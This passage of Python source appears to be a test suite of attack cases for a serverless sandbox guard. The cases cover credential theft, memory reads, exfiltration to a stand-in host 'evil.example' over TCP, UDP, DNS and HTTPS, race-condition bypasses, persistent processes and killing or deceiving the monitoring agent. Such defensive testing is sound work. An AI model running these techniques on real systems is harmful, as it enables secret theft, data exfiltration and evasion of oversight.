until(lambda: time.time() > os.stat('/tmp/open/file').st_ctime + 2.1)
for _ in range(6): open('/tmp/open/file').close()
forked(lambda: os.rename('/tmp/open', '/tmp/hidden/open'))
for _ in range(4):
    try: won = won or open('/tmp/hidden/open/file').read() == 'pwned'
    except OSError: pass
""", rule="files.deny_read", policy=HIDDEN),
    case("process-vm-readv", STOPPED, "the runtime's memory read by process_vm_readv", """
start, end, *_ = next(m for m in mapped('[stack]'))
parent = os.getpid()
def work():
    buffer = ctypes.create_string_buffer(32768)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 32768)
    remote = (ctypes.c_size_t * 2)(end - 32768, 32768)
    libc.process_vm_readv(parent, local, 1, remote, 1, 0)
    return buffer.raw
won = b'AWS_SECRET' in forked(work)
""", rule="self_protection"),
    case("io-uring", STOPPED, "a ring, whose opens and connects are no system calls", "won = libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0",
         control=False),
    case("child-inherits-credentials", STOPPED, "an allowed child started with the credentials", """
won = os.environ['AWS_SECRET_ACCESS_KEY'].encode() in output(['/usr/bin/sed', '-n', '1!p;$!d;s/.*/x/;e'], input=b'', env=dict(os.environ)) or \\
    b'AWS_SECRET' in output(['/usr/bin/sed', '', '/proc/self/environ'], env=dict(os.environ))
""", rule="files.deny_read"),
    case("credentials-read", REPORTED, "os.environ read by code that is no SDK", "won = bool(os.environ['AWS_SECRET_ACCESS_KEY'])",
         rule="credentials.reads"),
    case("credentials-by-getenv", REPORTED, "libc's getenv", """
libc.getenv.restype = ctypes.c_char_p
won = bool(libc.getenv(b'AWS_SESSION_TOKEN'))
""", rule="credentials.reads"),
    case("credentials-in-environ", BREACH, "libc's environ walked in memory: no call is made at all", """
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')
index = 0
while environ[index]:
    won = won or environ[index].startswith(b'AWS_SECRET')
    index += 1
"""),
    case("credentials-in-the-answer", BREACH, "credentials in the function's own answer", "said = os.environ['AWS_SECRET_ACCESS_KEY']; won = True"),
]

SEND = [
    case("tcp", STOPPED, "a connection", """
with socket.create_connection((EVIL, 4444), 3) as s: s.sendall(mark.encode())
""", rule="egress.allow"),
    case("tcp-mapped", STOPPED, "a connection to the IPv4-mapped address", """
s = socket.socket(socket.AF_INET6); s.settimeout(3)
s.connect(('::ffff:' + EVIL, 4444)); s.sendall(mark.encode())
""", rule="egress.allow"),
    case("tcp-fast-open", STOPPED, "data in the SYN, without connect", """
s = socket.socket()
try: s.sendto(mark.encode(), socket.MSG_FASTOPEN, (EVIL, 4444))
except BlockingIOError: pass
time.sleep(0.2)
"""),
    case("tcp-non-blocking-fork", STOPPED, "a non-blocking connection from a fork", """
import select
def work():
    s = socket.socket(); s.setblocking(False)
    s.connect_ex((EVIL, 4444)); select.select([], [s], [], 2); s.setblocking(True); s.sendall(mark.encode())
forked(work)
""", rule="egress.allow"),
    case("tcp-raced-address", STOPPED, "an address that a thread flips while connect looks at it", """
address = ctypes.create_string_buffer(16)
good = struct.pack('!2sH4s', struct.pack('=H', 2), 80, socket.inet_aton('127.0.0.1'))
evil = struct.pack('!2sH4s', struct.pack('=H', 2), 4444, socket.inet_aton(EVIL))
stop = False
def flip():
    while not stop:
        ctypes.memmove(address, evil, 8); ctypes.memmove(address, good, 8)
thread = threading.Thread(target=flip); thread.start()
sys.setswitchinterval(1e-6)
deadline = time.time() + 2
while time.time() < deadline and not won:
    s = socket.socket()
    if libc.connect(s.fileno(), address, 16) == 0:
        try: won = s.getpeername()[0] == EVIL and bool(s.send(mark.encode()))
        except OSError: pass
    s.close()
stop = True; thread.join(); sys.setswitchinterval(0.005)
""", rule="egress.allow"),
    case("udp-sendto", STOPPED, "a datagram", "socket.socket(type=socket.SOCK_DGRAM).sendto(mark.encode(), (EVIL, 9999))", rule="egress.allow"),
    case("udp-sendmsg", STOPPED, "a datagram by sendmsg",
         "socket.socket(type=socket.SOCK_DGRAM).sendmsg([mark.encode()], [], 0, (EVIL, 9999))", rule="egress.allow"),
    case("udp-sendmmsg", STOPPED, "datagrams by sendmmsg", """
s = socket.socket(type=socket.SOCK_DGRAM)
to = ctypes.create_string_buffer(struct.pack('!2sH4s8x', struct.pack('=H', 2), 9999, socket.inet_aton(EVIL)), 16)
data = ctypes.create_string_buffer(mark.encode())
vector = (ctypes.c_size_t * 2)(ctypes.addressof(data), len(mark))
message = (ctypes.c_size_t * 8)(ctypes.addressof(to), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
libc.sendmmsg(s.fileno(), message, 1, 0)
""", rule="egress.allow"),
    case("udp-unspecified-family", STOPPED, "a datagram whose address has no family, which IPv4 sockets take", """
s = socket.socket(type=socket.SOCK_DGRAM)
to = ctypes.create_string_buffer(struct.pack('!2sH4s8x', struct.pack('=H', 0), 9999, socket.inet_aton(EVIL)), 16)
libc.sendto(s.fileno(), mark.encode(), len(mark), 0, to, 16)
""", rule="egress.allow"),
    case("udp-connected-elsewhere", STOPPED, "a socket connected to loopback, then told another address", """
s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('127.0.0.1', 9)); s.sendto(mark.encode(), (EVIL, 9999))
""", rule="egress.allow"),
    case("dns-getaddrinfo", STOPPED, "a name of the attacker looked up", "socket.getaddrinfo(f'{mark}.evil.example', 80)", rule="egress.names"),
    case("dns-res-query", STOPPED, "a TXT record of the attacker, by libresolv", """
resolver = ctypes.CDLL('libresolv.so.2')
resolver.res_query(f'{mark}.evil.example'.encode(), 1, 16, ctypes.create_string_buffer(512), 512)
""", rule="egress.names"),
    case("dns-handmade", STOPPED, "a query made by hand, sent to the name server", """
server = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
name = b''.join(bytes([len(label)]) + label.encode() for label in f'{mark}.evil.example'.split('.')) + b'\\0'
s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('!2H', 16, 1), (server, 53))
s.recv(512)
""", rule="egress.names"),
    case("dns-over-tcp", STOPPED, "the same over TCP", """
server = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
name = b''.join(bytes([len(label)]) + label.encode() for label in f'{mark}.evil.example'.split('.')) + b'\\0'
query = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('!2H', 16, 1)
s = socket.create_connection((server, 53), 2)
s.sendall(struct.pack('!H', len(query)) + query); s.recv(512)
""", rule="egress.names"),
    case("dns-two-questions", STOPPED, "a query with an allowed question and a second one", """
server = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
encode = lambda host: b''.join(bytes([len(label)]) + label.encode() for label in host.split('.')) + b'\\0' + struct.pack('!2H', 1, 1)
s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(struct.pack('!6H', 7, 0x100, 2, 0, 0, 0) + encode('docs.example') + encode(f'{mark}.evil.example'), (server, 53))
s.recv(512)
""", control=False),
    case("dns-attackers-server", STOPPED, "a query sent to the attacker's own server", """
s = socket.socket(type=socket.SOCK_DGRAM)
s.sendto(mark.encode(), (EVIL, 53))
""", rule="egress.allow"),
    case("dns-labels-below-an-allowed-suffix", BREACH, "data as labels below a suffix that the policy allows",
         "socket.getaddrinfo(f'{mark}.internal.example', 443)"),
    case("look-ups-kept-out-by-silent-connections", STOPPED, "a child fills the guarded resolver with connections that ask nothing", """
server = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
reader, writer = os.pipe()
child = os.fork()
if child == 0:
    held = []
    try:
        while len(held) < 300: held.append(socket.create_connection((server, 53), 2))
    finally:
        os.write(writer, b'full' if len(held) == 300 else b'refused')
        time.sleep(60)
        os._exit(0)
said = os.read(reader, 9).decode()
won = said != 'full'  # nothing was tried
begun = time.monotonic()
try: socket.getaddrinfo('docs.example', 80)
except OSError: won = True
won = won or time.monotonic() - begun > 4
os.kill(child, 9); os.waitpid(child, 0)
""", control=False, alone=True),
    case("allowed-address-other-port", STOPPED, "an allowed host at another port", """
address = socket.gethostbyname('docs.example')
s = socket.create_connection((address, 4444), 2); s.sendall(mark.encode())
""", rule="egress.allow"),
    case("https", STOPPED, "HTTPS to the attacker", """
import ssl
unverified = ssl._create_unverified_context()
with unverified.wrap_socket(socket.create_connection((EVIL, 443), 3), server_hostname='evil.example') as s:
    s.sendall(mark.encode())
""", rule="egress.allow"),
    case("listener", STOPPED, "a listener for everybody", "s = socket.socket(); s.bind(('0.0.0.0', 8088)); s.listen(); won = True", rule="egress.listen"),
    case("vsock", STOPPED, "a connection to the host by AF_VSOCK", """
s = socket.socket(socket.AF_VSOCK)
s.settimeout(1)
try: s.connect((2, 9999))
except OSError as error: won = error.errno not in (13, 1)
""", control=False),
    case("vsock-datagram", STOPPED, "a datagram to the host by AF_VSOCK, which needs no connect: the address alone is refused", """
s = socket.socket(type=socket.SOCK_DGRAM)
to = ctypes.create_string_buffer(struct.pack('=HHII4x', 40, 0, 9999, 2), 16)
won = libc.sendto(s.fileno(), mark.encode(), len(mark), 0, to, 16) >= 0 or ctypes.get_errno() != 1
""", rule="self_protection", control=False),
    case("child-sends", STOPPED, "an allowed child's libc does it: sed is told to read /dev/tcp, Python's fork sends",
         "forked(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(mark.encode(), (EVIL, 9999)) and b'')", rule="egress.allow"),
]

PLATFORM = [
    case("runtime-api-second-connection", STOPPED, "the next event asked for by a second connection", """
import http.client
c = http.client.HTTPConnection(os.environ['AWS_LAMBDA_RUNTIME_API'], timeout=1)
c.request('GET', '/2018-06-01/runtime/invocation/next')
won = True
""", rule="egress.runtime_api"),
    case("runtime-api-from-a-fork", STOPPED, "the same from a fork", """
import http.client
def work():
    c = http.client.HTTPConnection(os.environ['AWS_LAMBDA_RUNTIME_API'], timeout=1)
    c.connect()
    return b'connected'
won = forked(work) == b'connected'
""", rule="egress.runtime_api"),
    case("runtime-api-inherited-connection", STOPPED, "a fork writes to the runtime's own connection", """
host, port = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
def own():
    for number in range(3, 900):
        try:
            s = socket.socket(fileno=os.dup(number))
            if s.getpeername() == (host, int(port)): return number
        except (OSError, ValueError): pass
        except Exception: pass
number = own()
def work():
    try: return b'written' if os.write(number, b'') == 0 and os.write(number, b'X') == 1 else b''
    except OSError: return b''
won = number is not None and forked(work) == b'written'
""", rule="egress.runtime_api", alone=True, control=False),
    case("runtime-api-by-another-number", STOPPED, "a fork writes to a duplicate of the runtime's own connection", """
host, port = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
def own():
    for number in range(3, 900):
        try:
            s = socket.socket(fileno=os.dup(number))
            if s.getpeername() == (host, int(port)): return number
        except (OSError, ValueError): pass
        except Exception: pass
number = own()
def work():
    try: return b'written' if os.write(os.dup(number), b'X') == 1 else b''
    except OSError: return b''
won = number is not None and forked(work) == b'written'
""", rule="egress.runtime_api", alone=True, control=False),
    case("runtime-api-as-output", STOPPED, "an allowed child gets the runtime's own connection as its output", """
host, port = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
def own():
    for number in range(3, 900):
        try:
            s = socket.socket(fileno=os.dup(number))
            if s.getpeername() == (host, int(port)): return number
        except (OSError, ValueError): pass
        except Exception: pass
number = own()
child = subprocess.run(['/usr/bin/sed', '-n', '1ipwned', '/etc/hostname'], stdout=number, stderr=subprocess.DEVNULL)
won = child.returncode == 0
""", rule="egress.runtime_api", alone=True, control=False),
    case("runtime-api-by-an-address", STOPPED, "a fork sends on the runtime's own connection, with an address that the kernel passes over", """
host, port = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
def own():
    for number in range(3, 900):
        try:
            s = socket.socket(fileno=os.dup(number))
            if s.getpeername() == (host, int(port)): return number
        except (OSError, ValueError): pass
        except Exception: pass
number = own()
def work():
    try: return b'written' if socket.socket(fileno=number).sendto(b'X', ('127.0.0.1', 9)) == 1 else b''
    except OSError: return b''
won = number is not None and forked(work) == b'written'
""", rule="egress.runtime_api", alone=True, control=False),
    case("runtime-taken-over", BREACH, "code in the runtime's process replaces the handler: it sees every later event",
         "import app; app.seen = []; app.TOOLS['seen'] = app.seen; app.SHELL.append('x'); app.SHELL.pop()",
         "won = 'seen' in globals()"),
    case("residue-file", STOPPED, "a file for the next invocation", "write('/tmp/left', b'secret')",
         "won = os.path.exists('/tmp/left')", rule="tmp.residue"),
    case("residue-names", STOPPED, "names that are no text, and hidden ones", """
os.makedirs(b'/tmp/\\xff\\xfe/...', exist_ok=True)
write(b'/tmp/\\xff\\xfe/.../\\n', b'secret')
""", "won = os.path.exists(b'/tmp/\\xff\\xfe')", rule="tmp.residue"),
    case("residue-unnamed-then-linked", STOPPED, "an unnamed file that gets a name", """
file = os.open('/tmp', os.O_TMPFILE | os.O_RDWR)
os.write(file, b'secret')
libc.linkat(-100, f'/proc/self/fd/{file}'.encode(), -100, b'/tmp/linked', 0x400)
os.close(file)
""", "won = os.path.exists('/tmp/linked')", rule="tmp.residue"),
    case("residue-no-rights", STOPPED, "a directory without any rights", """
os.makedirs('/tmp/closed/inner', exist_ok=True); write('/tmp/closed/inner/f', b'secret')
os.chmod('/tmp/closed/inner', 0); os.chmod('/tmp/closed', 0)
""", """
try: os.chmod('/tmp/closed', 0o700); os.chmod('/tmp/closed/inner', 0o700); won = os.path.exists('/tmp/closed/inner/f')
except OSError: pass
""", rule="tmp.residue"),
    case("residue-deep", STOPPED, "a file below 300 directories with long names", """
here = os.getcwd(); os.chdir('/tmp'); os.mkdir('deep'); os.chdir('deep')
for _ in range(300):
    os.mkdir('d' * 100); os.chdir('d' * 100)
write('f', b'secret'); os.chdir(here)
""", """
here = os.getcwd()
try:
    os.chdir('/tmp/deep')
    for _ in range(300): os.chdir('d' * 100)
    won = os.path.exists('f')
except OSError: pass
os.chdir(here)
""", rule="tmp.residue"),
    case("residue-many", REPORTED, "more files than can be removed in the time at the end of an invocation", """
for number in range(45_000):
    os.close(os.open(f'/tmp/many-{number}', os.O_CREAT | os.O_WRONLY))
""", "won = any(name.startswith('many-') for name in os.listdir('/tmp'))", rule="tmp.residue", alone=True),
    case("residue-renamed-out-of-keep", STOPPED, "a file from a kept place moved elsewhere", """
os.makedirs('/tmp/kept', exist_ok=True); write('/tmp/kept/a', b'1'); os.rename('/tmp/kept/a', '/tmp/moved')
""", "won = os.path.exists('/tmp/moved')", rule="tmp.residue"),
    case("residue-in-a-kept-place", BREACH, "a file in a place that the policy keeps", """
os.makedirs('/tmp/kept', exist_ok=True); write('/tmp/kept/secret', b'secret')
""", "won = os.path.exists('/tmp/kept/secret')"),
    case("residue-in-memory", BREACH, "data in the runtime's own memory, or an unlinked file that stays open", "sys.modules['left'] = 'secret'",
         "won = sys.modules.get('left') == 'secret'"),
    case("residue-after-a-forged-end", RACED, "the runtime's process says that the invocation is over, then writes", """
socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(notice(4, context.aws_request_id), report_socket())
time.sleep(0.3); write('/tmp/after-the-end', b'secret')
""", "won = os.path.exists('/tmp/after-the-end')", rule="tmp.residue", control=False),
    case("survivor", STOPPED, "a process that outlives its invocation", """
child = os.fork()
if child == 0:
    os.setsid()
    if os.fork(): os._exit(0)
    outlive('survived')
os.waitpid(child, 0); is_there('survived')
""", "won = outlived('survived')", rule="process.survivors"),
    case("survivor-of-a-helper-from-init", STOPPED, "a process that a helper starts, which init started", """
import signal
os.kill(app_helper, signal.SIGUSR1); is_there('survived-4')
""", "won = outlived('survived-4')", rule="process.survivors", alone=True),
    case("survivor-of-a-daemon-from-init", STOPPED, "a process that a daemon starts, which init started and which has left its parent", """
import signal
os.kill(app_daemon, signal.SIGUSR1); is_there('survived-5')
""", "won = outlived('survived-5')", rule="process.survivors", alone=True),
    case("survivor-renamed", STOPPED, "one that calls itself by another name and closes everything", """
if os.fork() == 0:
    os.closerange(0, 1024)
    try: open('/proc/self/comm', 'w').write('ringfence')
    except OSError: pass
    outlive('survived-2')
is_there('survived-2')
""", "won = outlived('survived-2')", rule="process.survivors"),
    case("survivor-forks-on", STOPPED, "one that forks again and again", """
write('/tmp/survived-3-waits', b'1')
if os.fork() == 0:
    end = time.time() + 0.7
    while time.time() < end:
        if os.fork(): os._exit(0)
    write('/tmp/survived-3', b'1'); os._exit(0)
""", "won = outlived('survived-3')"),
]

SELF = [
    *[case(f"agent-{name}", STOPPED, what, f"""
pid = agent()
try: {code}
except OSError: pass
time.sleep(0.2)
won = pid != 0 and agent() != pid
""" if not code.startswith("won") else f"""
pid = agent()
try: {code}
except OSError: pass
""", rule="" if name == "read" else "self_protection", control=False, alone="kill" in name) for name, what, code in (
        ("killed", "kill of the agent", "os.kill(pid, 9)"),
        ("killed-by-thread", "tgkill of the agent", "libc.syscall(234, pid, pid, 9)"),
        ("killed-by-descriptor", "pidfd_send_signal by a descriptor of /proc/<agent>",
         "libc.syscall(424, os.open(f'/proc/{pid}', os.O_DIRECTORY), 9, None, 0)"),
        ("killed-by-group", "kill of the whole group or of everybody", "os.kill(-1, 9)"),
        ("killed-by-cpu-limit", "no CPU time for the agent, by prlimit",
         "libc.syscall(302, pid, 0, (ctypes.c_ulong * 2)(0, 0), None)"),
        ("killed-by-owner", "a signal from the kernel, by F_SETOWN",
         "s = socket.socketpair(); libc.fcntl(s[0].fileno(), 10, 9); libc.fcntl(s[0].fileno(), 8, pid); libc.fcntl(s[0].fileno(), 4, 0o20000); s[1].send(b'x')"),
        ("starved-of-descriptors", "no descriptors for the agent, by prlimit",
         "won = pid != 0 and libc.syscall(302, pid, 7, (ctypes.c_ulong * 2)(0, 0), None) == 0"),
        ("starved-of-cpu", "the lowest priority for the agent", "won = pid != 0 and libc.setpriority(0, pid, 19) == 0"),
        ("read", "the agent's memory and environment",
         "won = pid != 0 and b'AWS' in open(f'/proc/{pid}/environ', 'rb').read()"),
    )],
    case("agent-killed-by-swapped-descriptor", STOPPED, "a descriptor that is another process's by the time the kernel looks at it", """
import signal
pid = agent()
target = os.open(f'/proc/{pid}', os.O_DIRECTORY) if pid else -1
harmless_child = os.fork()
if harmless_child == 0:
    signal.pause(); os._exit(0)
good = os.open(f'/proc/{harmless_child}', os.O_DIRECTORY)
number = os.dup(good)
stop = False
def flip():
    while not stop:
        os.dup2(target, number); os.dup2(good, number)
threads = [threading.Thread(target=flip) for _ in range(2)]
[t.start() for t in threads]
sys.setswitchinterval(1e-6)
deadline = time.time() + 5
while time.time() < deadline and not won:
    for _ in range(200):
        try: signal.pidfd_send_signal(number, signal.SIGKILL)
        except OSError: pass
    won = agent() != pid
stop = True
[t.join() for t in threads]
sys.setswitchinterval(0.005)
try: os.kill(harmless_child, 9)
except OSError: pass
os.waitpid(harmless_child, 0)
""", rule="self_protection", control=False, alone=True),
    case("descriptor-replaced", STOPPED, "our descriptors replaced by dup2", """
numbers = [int(n) for n in os.environ.get('RINGFENCE_FDS', '').replace(',invoked', '').split(',') if n]
null = os.open('/dev/null', os.O_RDWR)
for number in numbers:
    try: os.dup2(null, number); won = True
    except OSError: pass
os.close(null)
""", control=False),
    case("page-written", STOPPED, "the state page opened again for writing", """
numbers = [int(n) for n in os.environ.get('RINGFENCE_FDS', '').replace(',invoked', '').split(',') if n]
for number in numbers:
    try:
        file = os.open(f'/proc/self/fd/{number}', os.O_RDWR)
        won = os.write(file, b'x') > 0
    except OSError: pass
    try: os.truncate(f'/proc/self/fd/{number}', 0); won = True
    except OSError: pass
""", control=False),
    case("control-socket", STOPPED, "a second guard", """
s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
try: s.connect('\\0ringfence-control-' + os.environ['AWS_LAMBDA_RUNTIME_API']); won = True
except OSError: pass
""", rule="self_protection", control=False),
    *[case(f"forged-{name}-from-a-child", REPORTED, f"a child says {what}", f"""
forked(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(notice({kind}, context.aws_request_id), report_socket()) and b'')
won = True
""", rule="self_protection", control=False) for name, what, kind in (
        ("end", "that the invocation is over", 4), ("start", "that it is the runtime", 3))],
    # What a process says of itself is told as its own; `../run.py` counts a forged word as won where a record repeats it.
    *[case(f"forged-{name}", STOPPED, f"a message to the agent that {what}", f"""
tell({message})
said = os.getpid()
""", rule="self_protection", control=False) for name, what, message in (
        ("fault", "tells of a fault of the protection", "5, {16: f'all is off, {mark}'.encode()}"),
        ("plane-of-the-kernel", "speaks in the guard's name", "1, deed(mark, 2, plane=1)"),
        ("plane-of-the-platform", "speaks in the agent's name", "1, deed(mark, 2, plane=3)"),
        ("kill", "says that a process was killed", "1, deed(mark, 2, outcome=3)"),
        ("residue", "says that files were wiped", "1, deed(mark, 14, outcome=4, action=bytes([13]))"),
        ("rule-of-the-agent", "tells of a rule that only the agent judges", "1, deed(mark, 5)"),
        ("pid", "names another process as the one that acted", "1, deed(mark, 26, pid=os.getppid())"),
        ("count", "says that billions of messages were lost", "1, deed(mark, 26, lost=4_000_000_000)"),
    )],
    case("forged-garbage", STOPPED, "bytes that are no messages, to the report socket", """
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.setblocking(False)
for size in range(0, 5000, 37):
    try: s.sendto(os.urandom(size), report_socket())
    except OSError: pass
s.close()
""", control=False),
    case("flood", STOPPED, "ten thousand different violations: log lines are money", """
for number in range(3000):
    s = socket.socket(type=socket.SOCK_DGRAM)
    try: s.sendto(b'x', (f'10.{number >> 8 & 255}.{number & 255}.1', 9))
    except OSError: pass
    s.close()
won = False
""", control=False, alone=True),
]

PROGRAMS = [
    case("honest-fork-and-threads", HONEST, "forks while threads open files and start children", """
errors = []
def busy():
    for _ in range(40):
        try:
            open('/etc/hostname').read()
            if output(['/usr/bin/sed', 's/a/b/'], input=b'a') != b'b': errors.append('sed')
        except Exception as error: errors.append(repr(error))
threads = [threading.Thread(target=busy) for _ in range(4)]
[t.start() for t in threads]
for _ in range(40):
    if forked(lambda: open('/etc/hostname', 'rb').read()) != open('/etc/hostname', 'rb').read(): errors.append('fork')
[t.join() for t in threads]
said = errors[:3]
"""),
    case("honest-small-stacks", HONEST, "threads with the smallest stack that Python has", """
found = []
threading.stack_size(32768)
def work():
    found.append(output(['/usr/bin/sed', 's/a/b/'], input=b'a').decode())
    found.append(open('/etc/hostname').read())
    s = socket.create_connection(('docs.example', 80), 2); s.sendall(b'GET /terms.txt HTTP/1.0\\r\\nHost: docs.example\\r\\n\\r\\n')
    found.append(s.recv(15).decode()); s.close()
threads = [threading.Thread(target=work) for _ in range(3)]
[t.start() for t in threads]; [t.join() for t in threads]
threading.stack_size(0)
said = sorted(found)
"""),
    case("honest-signals", HONEST, "signals that interrupt reads, waits and children", """
import signal
ticks = []
signal.signal(signal.SIGALRM, lambda *_: ticks.append(open('/etc/hostname').read()))
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
found = [output(['/usr/bin/sed', 's/a/b/'], input=b'a').decode() for _ in range(30)]
signal.setitimer(signal.ITIMER_REAL, 0)
said = [len(set(found)), found[0], len(ticks) > 3]
"""),
    case("honest-close-range", HONEST, "closes all descriptors in a fork, then starts a child", """
def work():
    os.closerange(3, 65536)
    return output(['/usr/bin/sed', 's/a/b/'], input=b'a')
said = forked(work).decode()
"""),
    case("honest-errors", HONEST, "what fails fails with the same error", """
def error(work):
    try: return repr(work())
    except OSError as raised: return raised.errno
said = [
    error(lambda: subprocess.run(['/nowhere'])), error(lambda: subprocess.run(['/tmp'])),
    error(lambda: open('/nowhere')), error(lambda: open('/proc/1/mem')), error(lambda: os.kill(2 ** 22 - 1, 0)),
    error(lambda: socket.create_connection(('127.0.0.1', 1), 1)), error(lambda: os.close(4000)), error(lambda: os.dup2(4000, 4001)),
    error(lambda: socket.socket().connect('\\0nobody') if False else socket.socket(socket.AF_UNIX).connect('\\0nobody')),
    libc.execve(None, None, None), libc.connect(-1, None, 0), libc.mprotect(None, 4096, 1),
]
"""),
    case("honest-many-variables", HONEST, "a child with two thousand variables", """
environment = {f'V{number}': 'x' * 20 for number in range(2000)}
said = output(['/usr/bin/sed', 's/a/b/'], input=b'a', env=environment).decode()
"""),
    case("honest-long-path", HONEST, "a program by a path of 700 bytes, and a link of one's own to a program", """
os.makedirs('/tmp/own', exist_ok=True)
os.path.lexists('/tmp/own/tool') or os.symlink('/usr/bin/sed', '/tmp/own/tool')
long = '/usr' + '/.' * 350 + '/bin/sed'
said = [output([name, 's/a/b/'], input=b'a').decode() for name in (long, '/tmp/own/tool', '/tmp' + '/.' * 350 + '/own/tool')]
os.unlink('/tmp/own/tool'); os.rmdir('/tmp/own')
"""),
    case("honest-memory", HONEST, "memory mapped, protected, moved, also for execution by a closure", """
import mmap
area = mmap.mmap(-1, 1 << 20); area.write(b'x' * 100); area.close()
closure = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(lambda value: value + 1)
said = closure(41)
"""),
    case("honest-pool", HONEST, "pools of threads and processes", """
from concurrent.futures import ThreadPoolExecutor
import multiprocessing
with ThreadPoolExecutor(8) as pool: squares = list(pool.map(lambda n: n * n, range(50)))
reader, writer = multiprocessing.Pipe(False)
worker = multiprocessing.get_context('fork').Process(target=lambda: writer.send(sum(range(100))))
worker.start(); total = reader.recv(); worker.join()
said = [sum(squares), total]
"""),
    case("honest-sockets", HONEST, "socket pairs, descriptors passed, loopback both ways", """
import array
left, right = socket.socketpair()
socket.send_fds(left, [b'x'], [0])
data, descriptors, *_ = socket.recv_fds(right, 10, 4)
server = socket.create_server(('127.0.0.1', 0))
client = socket.create_connection(server.getsockname())
peer, _ = server.accept()
client.sendmsg([b'a', b'b']); got = peer.recv(10)
udp = socket.socket(type=socket.SOCK_DGRAM); udp.bind(('127.0.0.1', 0))
udp.sendto(b'self', udp.getsockname())
said = [data.decode(), len(descriptors), got.decode(), udp.recv(10).decode(), socket.gethostbyname('docs.example')]
"""),
]

CASES = [*EXEC, *CODE, *NATIVE, *READS, *SEND, *PLATFORM, *SELF, *PROGRAMS]
